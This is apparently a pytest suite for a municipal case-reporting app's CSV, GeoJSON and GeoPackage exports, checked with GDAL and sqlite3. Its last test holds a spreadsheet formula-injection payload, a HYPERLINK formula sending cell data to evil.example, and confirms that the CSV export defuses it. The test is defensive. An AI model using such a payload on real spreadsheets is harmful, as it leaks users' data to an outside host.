"""Exporting cases to CSV, GeoJSON and GeoPackage, read back by independent readers.

CSV is read back with the csv module; GeoJSON and GeoPackage with GDAL's ``ogrinfo`` and
``ogr2ogr`` (gdal-bin, installed by scripts/setup.sh), never with the code that wrote them.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import shutil
import sqlite3
import struct
import subprocess
import sys
import tracemalloc
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from PIL import Image
from sqlalchemy import insert

from app.domain import CaseFields
from app.domain.errors import CityPatrolError
from app.domain.lifecycle import Role
from app.storage import LocalStore, exports
from app.storage.exports import ExportError, ExportFormat, export_cases
from app.storage.models import Case
from app.storage.store import Account

FORMATS = ("csv", "geojson", "gpkg")
SUFFIX = {"csv": "csv", "geojson": "geojson", "gpkg": "gpkg"}
#: The attribute names and order the export promises (a change here is a change of contract).
HEADER = [
    "id", "status", "status_name", "category_code", "category_name", "description", "address",
    "urgency", "lat", "lon", "accuracy_m", "position_source", "grid_code", "grid_source", "unit",
    "observed_at", "submitted_at", "updated_at", "author", "department", "deadline",
    "photo_count",
]  # fmt: skip

TRICKY = '人民路与解放路交叉口,暴露垃圾堆积约2立方米\n商户称"昨晚"已清运，实际未清运'
ADDRESS = "鼓楼区人民路12号"
GRID = "320106001002003"
UNIT = "鼓楼区第一中学"
DEADLINE = datetime(2025, 3, 4, 5, 6, 7, 890000, tzinfo=UTC)


def need(tool: str) -> str:
    path = shutil.which(tool)
    if path is None:
        pytest.fail(
            f"{tool} not found: it is the independent reader of the exports (gdal-bin). "
            "Run scripts/setup.sh to install it."
        )
    return path


def run(*cmd: str) -> str:
    result = subprocess.run(
        cmd, capture_output=True, text=True, encoding="utf-8", check=False, timeout=120
    )
    assert result.returncode == 0, result.stderr
    return result.stdout


def ogr_summary(path: Path) -> str:
    """``ogrinfo -so``: layer name, geometry type, feature count, extent, SRS and field types."""
    return run(need("ogrinfo"), "-ro", "-so", "-al", str(path))


def ogr_features(path: Path) -> list[dict[str, Any]]:
    """Every feature as GDAL reads it (converted by ogr2ogr to GeoJSON, then parsed)."""
    data = json.loads(run(need("ogr2ogr"), "-f", "GeoJSON", "/vsistdout/", str(path)))
    features: list[dict[str, Any]] = data["features"]
    for f in features:  # GDAL moves a GeoJSON property "id" equal to the feature id up there
        f["properties"] = {"id": f.get("id"), **f["properties"]}
    return features


def count_of(summary: str) -> int:
    match = re.search(r"^Feature Count: (\d+)$", summary, re.M)
    assert match, summary
    return int(match.group(1))


def iso(value: datetime | None) -> str | None:
    if value is None:
        return None
    utc = value.astimezone(UTC)
    return utc.strftime("%Y-%m-%dT%H:%M:%S.") + f"{utc.microsecond // 1000:03d}Z"


def raw(store: LocalStore, sql: str, *args: object) -> None:
    with sqlite3.connect(store.data_dir / "citypatrol.db") as conn:
        conn.execute(sql, args)


@dataclass
class Sample:
    store: LocalStore
    garbage: str  # with a position, a tricky Chinese description, a photo, a department
    light: str  # no position
    vendor: str  # submitted, west and south of Greenwich (lon/lat signs differ)

    def expected(self, language: str = "zh_CN") -> dict[str, dict[str, Any]]:
        zh = language == "zh_CN"
        out: dict[str, dict[str, Any]] = {}
        for case_id in (self.garbage, self.light, self.vendor):
            row = self.store.get_case(case_id)
            out[case_id] = {
                "id": case_id,
                "status": row.status.value,
                "status_name": None,
                "category_code": row.category_code,
                "category_name": None,
                "description": row.description,
                "address": row.address,
                "urgency": row.urgency.value,
                "lat": row.lat,
                "lon": row.lon,
                "accuracy_m": row.accuracy_m,
                "position_source": None if row.lat is None else "manual",
                "grid_code": None,
                "grid_source": None,
                "unit": None,
                "observed_at": iso(row.observed_at),
                "submitted_at": iso(row.submitted_at),
                "updated_at": iso(row.updated_at),
                "author": "张三" if case_id != self.garbage else "本机用户",
                "department": None,
                "deadline": None,
                "photo_count": row.photo_count,
            }
        g, light, v = out[self.garbage], out[self.light], out[self.vendor]
        g["status_name"] = light["status_name"] = "草稿" if zh else "Draft"
        v["status_name"] = "已上报" if zh else "Submitted"
        g["category_name"] = "暴露垃圾" if zh else "Exposed garbage"
        light["category_name"] = "路灯异常" if zh else "Street light fault"
        v["category_name"] = "占道经营" if zh else "Street vending on the roadway"
        g["grid_code"], g["grid_source"], g["unit"] = GRID, "typed", UNIT
        v["grid_source"] = "outside"
        g["department"] = "鼓楼区城管局" if zh else "Gulou Urban Management Bureau"
        g["deadline"] = iso(DEADLINE)
        assert g["photo_count"] == 1
        return out


@pytest.fixture
def sample(store: LocalStore, tmp_path: Path) -> Sample:
    garbage = store.create_case(
        CaseFields(
            category_code="06010",
            description=TRICKY,
            address=ADDRESS,
            lat=32.0503,
            lon=118.7812,
            accuracy_m=6.5,
        )
    ).id
    photo = tmp_path / "p.png"
    Image.new("RGB", (40, 30), (10, 120, 200)).save(photo, format="PNG")
    store.attach_photo(garbage, photo)
    raw(
        store,
        "INSERT INTO departments (id, code, name, name_en, active) VALUES (?, ?, ?, ?, 1)",
        "dep-1",
        "GL-CG",
        "鼓楼区城管局",
        "Gulou Urban Management Bureau",
    )
    raw(
        store,
        "INSERT INTO responsibility_units (id, name, contact, letter_no, rings, radius_m, lon, "
        "lat) VALUES (?, ?, '', 'MQ-001', '[]', 50, 118.7812, 32.0503)",
        "unit-1",
        UNIT,
    )
    raw(
        store,
        "UPDATE cases SET department_id = ?, deadline = ?, grid_code = ?, grid_source = ?, "
        "unit_id = ? WHERE id = ?",
        "dep-1",
        DEADLINE.isoformat(timespec="microseconds"),
        GRID,
        "typed",
        "unit-1",
        garbage,
    )
    store.set_account(Account("http://127.0.0.1:1", "user-zs", "zhangsan", "张三", Role.INSPECTOR))
    light = store.create_case(CaseFields(category_code="01037", description="路灯不亮，“夜间”")).id
    vendor = store.create_case(
        CaseFields(
            category_code="09006",
            description="占道经营；水果摊",
            address="",
            lat=-33.8688,
            lon=-70.6693,
            accuracy_m=None,
        )
    ).id
    store.submit_case(vendor)
    raw(store, "UPDATE cases SET grid_source = 'outside' WHERE id = ?", vendor)
    return Sample(store, garbage, light, vendor)


def export(sample: Sample, fmt: str, folder: Path, **kwargs: Any) -> Path:
    folder.mkdir(exist_ok=True)
    out = folder / f"cases.{SUFFIX[fmt]}"
    result = export_cases(sample.store, fmt, out, **kwargs)
    assert result.count == 3
    assert result.path == out
    assert result.bytes == out.stat().st_size > 0
    assert sorted(p.name for p in folder.iterdir()) == [out.name]  # no temporary file left
    return out


def csv_records(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    return rows[0], [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def as_csv_text(value: Any) -> str:
    return "" if value is None else str(value)


# -- CSV ----------------------------------------------------------------------------------


def test_csv_has_a_bom_a_header_and_every_value_back_intact(sample: Sample, tmp_path: Path) -> None:
    out = export(sample, "csv", tmp_path / "out")
    header, records = csv_records(out)
    assert header == HEADER
    expected = sample.expected()
    assert [r["id"] for r in records] == [sample.garbage, sample.light, sample.vendor]
    for record in records:
        assert record == {k: as_csv_text(v) for k, v in expected[record["id"]].items()}
    garbage = records[0]
    assert garbage["description"] == TRICKY  # comma, quotes and newline survive the quoting
    assert float(garbage["lat"]) == 32.0503 and float(garbage["lon"]) == 118.7812


def test_csv_lines_end_with_crlf_for_excel(sample: Sample, tmp_path: Path) -> None:
    out = export(sample, "csv", tmp_path / "out")
    data = out.read_bytes()
    assert data.endswith(b"\r\n")
    assert data.split(b"\r\n", 1)[0] == b"\xef\xbb\xbf" + ",".join(HEADER).encode()
    # Outside quoted fields every line break is CRLF; the quoted description keeps its own "\n".
    assert data.count(b"\r\n") == 4
    assert data.replace(b"\r\n", b"").count(b"\n") == TRICKY.count("\n")


def test_csv_in_english_names_status_category_and_department_in_english(
    sample: Sample, tmp_path: Path
) -> None:
    out = export(sample, "csv", tmp_path / "out", language="en")
    _, records = csv_records(out)
    expected = sample.expected("en")
    for record in records:
        assert record == {k: as_csv_text(v) for k, v in expected[record["id"]].items()}
    assert records[0]["status_name"] == "Draft"
    assert records[0]["department"] == "Gulou Urban Management Bureau"


# -- GeoJSON ------------------------------------------------------------------------------


def test_geojson_is_an_rfc7946_feature_collection_in_lon_lat_order(
    sample: Sample, tmp_path: Path
) -> None:
    out = export(sample, "geojson", tmp_path / "out")
    text = out.read_text(encoding="utf-8")
    assert "人民路" in text and "\\u" not in text  # UTF-8 text, not escapes
    doc = json.loads(text)
    assert doc["type"] == "FeatureCollection"
    assert "crs" not in doc  # RFC 7946: always WGS84, no crs member
    features = doc["features"]
    expected = sample.expected()
    assert [f["properties"]["id"] for f in features] == [
        sample.garbage,
        sample.light,
        sample.vendor,
    ]
    for f in features:
        assert f["type"] == "Feature"
        assert f["id"] == f["properties"]["id"]
        assert list(f["properties"]) == HEADER
        assert f["properties"] == expected[f["id"]]
    assert features[0]["geometry"] == {"type": "Point", "coordinates": [118.7812, 32.0503]}
    assert features[1]["geometry"] is None
    assert features[2]["geometry"] == {"type": "Point", "coordinates": [-70.6693, -33.8688]}


def test_geojson_read_by_gdal(sample: Sample, tmp_path: Path) -> None:
    out = export(sample, "geojson", tmp_path / "out")
    summary = ogr_summary(out)
    assert count_of(summary) == 3
    assert "Geometry: Point" in summary
    assert "Extent: (-70.669300, -33.868800) - (118.781200, 32.050300)" in summary
    assert re.search(r"^observed_at: DateTime", summary, re.M), summary
    expected = sample.expected()
    features = {f["properties"]["id"]: f for f in ogr_features(out)}
    assert set(features) == set(expected)
    for case_id, f in features.items():
        assert f["properties"] == expected[case_id]
    assert features[sample.garbage]["geometry"]["coordinates"] == [118.7812, 32.0503]
    assert features[sample.vendor]["geometry"]["coordinates"] == [-70.6693, -33.8688]
    assert features[sample.light]["geometry"] is None
    sql = f"SELECT description FROM cases WHERE address = '{ADDRESS}'"
    found = run(need("ogrinfo"), "-ro", "-q", "-dialect", "SQLite", "-sql", sql, str(out))
    assert "交叉口,暴露垃圾" in found and '商户称"昨晚"' in found


# -- GeoPackage ---------------------------------------------------------------------------


def test_gpkg_follows_the_geopackage_tables_and_binary_format(
    sample: Sample, tmp_path: Path
) -> None:
    out = export(sample, "gpkg", tmp_path / "out")
    with sqlite3.connect(out) as conn:
        assert conn.execute("PRAGMA application_id").fetchone()[0] == 0x47504B47
        assert conn.execute("PRAGMA user_version").fetchone()[0] == 10300
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        srs = dict(conn.execute("SELECT srs_id, organization FROM gpkg_spatial_ref_sys"))
        assert srs == {-1: "NONE", 0: "NONE", 4326: "EPSG"}
        contents = conn.execute(
            "SELECT table_name, data_type, srs_id, min_x, min_y, max_x, max_y FROM gpkg_contents"
        ).fetchall()
        assert contents == [("cases", "features", 4326, -70.6693, -33.8688, 118.7812, 32.0503)]
        columns = conn.execute("SELECT * FROM gpkg_geometry_columns").fetchall()
        assert columns == [("cases", "geom", "POINT", 4326, 0, 0)]
        types = {r[1]: r[2] for r in conn.execute("PRAGMA table_info(cases)")}
        assert list(types) == ["fid", "geom", *HEADER]
        assert (types["fid"], types["lat"], types["photo_count"], types["deadline"]) == (
            "INTEGER",
            "REAL",
            "INTEGER",
            "DATETIME",
        )
        geoms = dict(conn.execute("SELECT id, geom FROM cases"))
        place = {
            r[0]: r[1:] for r in conn.execute("SELECT id, grid_code, grid_source, unit FROM cases")
        }
    # Place (单元网格, where its code came from, the 门前三包 unit) read back with sqlite3.
    assert place == {
        sample.garbage: (GRID, "typed", UNIT),
        sample.light: (None, None, None),
        sample.vendor: (None, "outside", None),
    }
    assert geoms[sample.light] is None
    blob = geoms[sample.garbage]
    magic, version, flags, srs_id = struct.unpack_from("<2sBBi", blob)
    assert (magic, version, srs_id) == (b"GP", 0, 4326)
    assert flags & 0b1 == 1  # little-endian
    assert (flags >> 1) & 0b111 == 0  # no envelope
    assert not flags & 0b1_0000  # not empty
    assert struct.unpack_from("<BIdd", blob, 8) == (1, 1, 118.7812, 32.0503)  # WKB Point, x=lon
    assert len(blob) == 8 + 21


def test_gpkg_read_by_gdal(sample: Sample, tmp_path: Path) -> None:
    out = export(sample, "gpkg", tmp_path / "out")
    summary = ogr_summary(out)
    assert "Layer name: cases" in summary
    assert "Geometry: Point" in summary
    assert count_of(summary) == 3
    assert 'ID["EPSG",4326]' in summary
    assert "Extent: (-70.669300, -33.868800) - (118.781200, 32.050300)" in summary
    for field, kind in (
        ("description", "String"),
        ("lat", "Real"),
        ("observed_at", "DateTime"),
        ("deadline", "DateTime"),
        ("photo_count", "Integer64"),
    ):
        assert re.search(rf"^{field}: {kind} ", summary, re.M), (field, summary)
    expected = sample.expected()
    features = ogr_features(out)
    assert [f["properties"]["id"] for f in features] == [
        sample.garbage,
        sample.light,
        sample.vendor,
    ]
    for f in features:
        assert f["properties"] == expected[f["properties"]["id"]]
    assert features[0]["geometry"]["coordinates"] == [118.7812, 32.0503]
    assert features[1]["geometry"] is None
    assert features[2]["geometry"]["coordinates"] == [-70.6693, -33.8688]
    sql = f"SELECT description, ST_X(geom), ST_Y(geom) FROM cases WHERE address = '{ADDRESS}'"
    found = run(need("ogrinfo"), "-ro", "-q", "-sql", sql, str(out))
    assert '商户称"昨晚"' in found
    assert "= 118.7812" in found and "= 32.0503" in found


def test_times_written_in_another_iso_form_are_exported_in_utc(
    sample: Sample, tmp_path: Path
) -> None:
    """Times are UTC with milliseconds and Z whatever ISO form the database holds them in."""
    raw(
        sample.store,
        "UPDATE cases SET observed_at = ?, submitted_at = ? WHERE id = ?",
        "2025-03-04T13:06:07+08:00",
        "2025-03-04T05:06:07.123999+00:00",
        sample.light,
    )
    out = export(sample, "csv", tmp_path / "out")
    light = next(r for r in csv_records(out)[1] if r["id"] == sample.light)
    assert (light["observed_at"], light["submitted_at"]) == (
        "2025-03-04T05:06:07.000Z",
        "2025-03-04T05:06:07.123Z",
    )


# -- all formats --------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_format_carries_the_same_records_in_the_same_order(
    sample: Sample, tmp_path: Path, fmt: str
) -> None:
    out = export(sample, fmt, tmp_path / "out", language="en")
    if fmt == "csv":
        header, records = csv_records(out)
        values = [list(r.values()) for r in records]
    else:
        header = list(ogr_features(out)[0]["properties"])
        values = [[as_csv_text(v) for v in f["properties"].values()] for f in ogr_features(out)]
    assert header == HEADER
    expected = sample.expected("en")
    assert values == [
        [as_csv_text(v) for v in expected[case_id].values()]
        for case_id in (sample.garbage, sample.light, sample.vendor)
    ]


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_empty_store_exports_a_valid_empty_file(
    store: LocalStore, tmp_path: Path, fmt: str
) -> None:
    out = tmp_path / f"empty.{SUFFIX[fmt]}"
    result = export_cases(store, ExportFormat(fmt), out)
    assert result.count == 0
    if fmt == "csv":
        assert csv_records(out) == (HEADER, [])
    else:
        assert count_of(ogr_summary(out)) == 0


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_successful_export_replaces_an_existing_file(
    sample: Sample, tmp_path: Path, fmt: str
) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / f"cases.{SUFFIX[fmt]}").write_bytes(b"last week's export")
    out = export(sample, fmt, folder)
    assert b"last week's export" not in out.read_bytes()


def test_progress_reports_every_batch_up_to_the_total(sample: Sample, tmp_path: Path) -> None:
    for i in range(17):
        sample.store.create_case(CaseFields(category_code="06010", description=f"垃圾 {i}"))
    calls: list[tuple[int, int]] = []
    out = tmp_path / "cases.geojson"
    result = export_cases(
        sample.store, "geojson", out, batch=6, progress=lambda d, t: calls.append((d, t))
    )
    assert result.count == 20
    assert calls == [(0, 20), (6, 20), (12, 20), (18, 20), (20, 20)]
    assert len(json.loads(out.read_text(encoding="utf-8"))["features"]) == 20


# -- failures -----------------------------------------------------------------------------


def test_unknown_format_is_refused(sample: Sample, tmp_path: Path) -> None:
    with pytest.raises(ExportError) as info:
        export_cases(sample.store, "xlsx", tmp_path / "cases.xlsx")
    assert info.value.code == "unknown_format"
    assert list(tmp_path.glob("cases*")) == []


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_missing_folder_is_a_clear_error_and_nothing_is_created(
    sample: Sample, tmp_path: Path, fmt: str
) -> None:
    out = tmp_path / "no" / "such" / f"cases.{SUFFIX[fmt]}"
    with pytest.raises(ExportError) as info:
        export_cases(sample.store, fmt, out)
    assert info.value.code == "no_folder"
    assert isinstance(info.value, CityPatrolError)
    assert str(tmp_path / "no" / "such") in info.value.text("en")
    assert "不存在" in info.value.text("zh_CN")
    assert not (tmp_path / "no").exists()


def test_a_file_in_place_of_the_folder_or_a_folder_as_out_is_refused(
    sample: Sample, tmp_path: Path
) -> None:
    (tmp_path / "file").write_text("x")
    with pytest.raises(ExportError) as info:
        export_cases(sample.store, "csv", tmp_path / "file" / "cases.csv")
    assert info.value.code == "no_folder"
    (tmp_path / "folder").mkdir()
    with pytest.raises(ExportError) as info:
        export_cases(sample.store, "csv", tmp_path / "folder")
    assert info.value.code == "is_folder"
    assert list((tmp_path / "folder").iterdir()) == []


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_read_only_folder_is_a_clear_error(sample: Sample, tmp_path: Path, fmt: str) -> None:
    folder = tmp_path / "ro"
    folder.mkdir()
    target = folder / f"cases.{SUFFIX[fmt]}"
    target.write_bytes(b"old")
    folder.chmod(0o555)
    try:
        if os.geteuid() != 0:
            with pytest.raises(ExportError) as info:
                export_cases(sample.store, fmt, target)
            code = info.value.code
        else:
            # Root writes anywhere through CAP_DAC_OVERRIDE: drop it from the bounding set so a
            # child running as root obeys the permission bits as a user would.
            script = (
                "import sys; from pathlib import Path\n"
                "from app.storage import LocalStore\n"
                "from app.storage.exports import ExportError, export_cases\n"
                "store = LocalStore(Path(sys.argv[1]))\n"
                "try: export_cases(store, sys.argv[2], Path(sys.argv[3]))\n"
                "except ExportError as exc: print(exc.code)\n"
                "finally: store.close()\n"
            )
            run = subprocess.run(
                ["setpriv", "--bounding-set", "-dac_override,-dac_read_search", sys.executable,
                 "-c", script, str(sample.store.data_dir), fmt, str(target)],
                capture_output=True, text=True, check=False, timeout=120,
                cwd=Path(__file__).resolve().parents[2],
            )  # fmt: skip
            code = run.stdout.strip() or run.stderr[-2000:]
    finally:
        folder.chmod(0o755)
    assert code == "not_writable"
    assert [p.name for p in folder.iterdir()] == [target.name]
    assert target.read_bytes() == b"old"


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_folder_refusing_new_files_is_a_clear_error(
    sample: Sample, tmp_path: Path, fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The permission error an unprivileged user gets (the test may run as root)."""
    folder = tmp_path / "locked"
    folder.mkdir()
    real_open = os.open

    def refuse(path: Any, flags: int, *args: Any, **kwargs: Any) -> int:
        if Path(path).parent == folder and flags & os.O_CREAT:
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real_open(path, flags, *args, **kwargs)

    monkeypatch.setattr(os, "open", refuse)
    with pytest.raises(ExportError) as info:
        export_cases(sample.store, fmt, folder / f"cases.{SUFFIX[fmt]}")
    assert info.value.code == "not_writable"
    assert "not writable" in info.value.text("en") and "权限" in info.value.text("zh_CN")
    assert list(folder.iterdir()) == []


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_destination_open_in_another_program_is_left_intact(
    sample: Sample, tmp_path: Path, fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On Windows a file open in Excel cannot be replaced: a clear error, the old file kept."""
    folder = tmp_path / "out"
    folder.mkdir()
    out = folder / f"cases.{SUFFIX[fmt]}"
    out.write_bytes(b"open in Excel")

    def locked(src: Any, dst: Any) -> None:
        raise PermissionError(errno.EACCES, "The process cannot access the file", str(dst))

    monkeypatch.setattr(os, "replace", locked)
    with pytest.raises(ExportError) as info:
        export_cases(sample.store, fmt, out)
    assert info.value.code == "not_writable"
    assert "Excel" in info.value.text("en") and "Excel" in info.value.text("zh_CN")
    assert [p.name for p in folder.iterdir()] == [out.name]
    assert out.read_bytes() == b"open in Excel"


def many_cases(store: LocalStore, n: int, *, start: int = 0) -> None:
    """Insert ``n`` cases fast (Core executemany), half of them without a position."""
    t0 = datetime(2025, 1, 1, tzinfo=UTC)
    rows = [
        {
            "id": f"00000000-0000-7000-8000-{start + i:012d}",
            "category_code": "06010",
            "description": f"第{start + i}号：人民路暴露垃圾堆积，约2立方米，商户称“已清运”",
            "address": "鼓楼区人民路12号",
            "urgency": "normal",
            "status": "submitted",
            "lat": None if i % 2 else 32.0 + (start + i) * 1e-6,
            "lon": None if i % 2 else 118.0 + (start + i) * 1e-6,
            "accuracy_m": 5.0,
            "position_source": "gps",
            "observed_at": t0 + timedelta(seconds=start + i),
            "created_at": t0 + timedelta(seconds=start + i),
            "updated_at": t0 + timedelta(seconds=start + i),
            "submitted_at": t0 + timedelta(seconds=start + i),
            "revision": 1,
            "delivery": "confirmed",
        }
        for i in range(n)
    ]
    with store.engine.begin() as conn:
        for chunk in range(0, n, 5000):
            conn.execute(insert(Case), rows[chunk : chunk + 5000])


@pytest.mark.parametrize("fmt", FORMATS)
def test_cancelling_midway_leaves_no_file_and_an_existing_one_intact(
    store: LocalStore, tmp_path: Path, fmt: str
) -> None:
    many_cases(store, 50)
    folder = tmp_path / "out"
    folder.mkdir()
    out = folder / f"cases.{SUFFIX[fmt]}"
    out.write_bytes(b"yesterday's export")
    calls: list[int] = []
    with pytest.raises(ExportError) as info:
        export_cases(
            store,
            fmt,
            out,
            batch=10,
            progress=lambda done, total: calls.append(done),
            cancelled=lambda: len(calls) >= 3,
        )
    assert info.value.code == "cancelled"
    assert "cancelled" in info.value.text("en") and "取消" in info.value.text("zh_CN")
    assert calls == [0, 10, 20]  # stopped midway, not at the end
    assert [p.name for p in folder.iterdir()] == [out.name]
    assert out.read_bytes() == b"yesterday's export"


def test_cancelling_before_the_start_writes_nothing(sample: Sample, tmp_path: Path) -> None:
    with pytest.raises(ExportError) as info:
        export_cases(sample.store, "gpkg", tmp_path / "cases.gpkg", cancelled=lambda: True)
    assert info.value.code == "cancelled"
    assert list(tmp_path.glob("*cases*")) == []


def failing_disk(monkeypatch: pytest.MonkeyPatch, fmt: str) -> None:
    """The disk fills up after the export has started writing."""
    if fmt == "gpkg":
        connect = exports._connect_gpkg

        def small_disk(path: Path) -> sqlite3.Connection:
            conn = connect(path)
            conn.execute("PRAGMA max_page_count = 12")  # SQLite's own "database or disk is full"
            return conn

        monkeypatch.setattr(exports, "_connect_gpkg", small_disk)
        return
    writes: list[int] = []
    write = exports._Sink.write

    def fill_up(self: exports._Sink, data: bytes) -> None:
        writes.append(len(data))
        if len(writes) > 2:
            raise OSError(errno.ENOSPC, "No space left on device")
        write(self, data)

    monkeypatch.setattr(exports._Sink, "write", fill_up)


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_full_disk_is_a_clear_error_and_leaves_no_partial_file(
    store: LocalStore, tmp_path: Path, fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    many_cases(store, 400)
    folder = tmp_path / "out"
    folder.mkdir()
    out = folder / f"cases.{SUFFIX[fmt]}"
    out.write_bytes(b"yesterday's export")
    failing_disk(monkeypatch, fmt)
    with pytest.raises(ExportError) as info:
        export_cases(store, fmt, out, batch=50)
    assert info.value.code == "disk_full"
    assert "disk is full" in info.value.text("en") and "磁盘空间不足" in info.value.text("zh_CN")
    assert [p.name for p in folder.iterdir()] == [out.name]
    assert out.read_bytes() == b"yesterday's export"


# -- memory -------------------------------------------------------------------------------


def peak_of(run_export: Callable[[], object]) -> int:
    tracemalloc.start()
    try:
        run_export()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("fmt", FORMATS)
def test_memory_stays_flat_from_2000_to_20000_cases(
    store: LocalStore, tmp_path: Path, fmt: str
) -> None:
    out = tmp_path / f"cases.{SUFFIX[fmt]}"
    many_cases(store, 2000)
    export_cases(store, fmt, out)  # warm up: imports and statement caches are not the export's
    small = peak_of(lambda: export_cases(store, fmt, out))
    many_cases(store, 18_000, start=2000)
    large = peak_of(lambda: export_cases(store, fmt, out))
    if fmt == "csv":
        assert len(csv_records(out)[1]) == 20_000
    else:
        assert count_of(ogr_summary(out)) == 20_000
    assert large < 3 * small + 2_000_000, (small, large)


def test_text_excel_would_run_as_a_formula_is_neutralised_in_csv_only(tmp_path: Path) -> None:
    store = LocalStore(tmp_path / "data")
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    store.create_case(CaseFields(description=hostile, address="@SUM(1+1)"))
    store.create_case(CaseFields(description="-1 个井盖缺失", address="普通地址"))
    (tmp_path / "out").mkdir()
    _, rows = csv_records(export_cases(store, "csv", tmp_path / "out" / "c.csv").path)
    by_address = {r["address"]: r for r in rows}
    assert by_address["'@SUM(1+1)"]["description"] == "'" + hostile
    assert by_address["普通地址"]["description"] == "'-1 个井盖缺失"
    geojson = export_cases(store, "geojson", tmp_path / "out" / "c.geojson").path
    descriptions = {
        f["properties"]["description"]
        for f in json.loads(geojson.read_text(encoding="utf-8"))["features"]
    }
    assert hostile in descriptions  # the GIS formats keep the text exactly
    store.close()
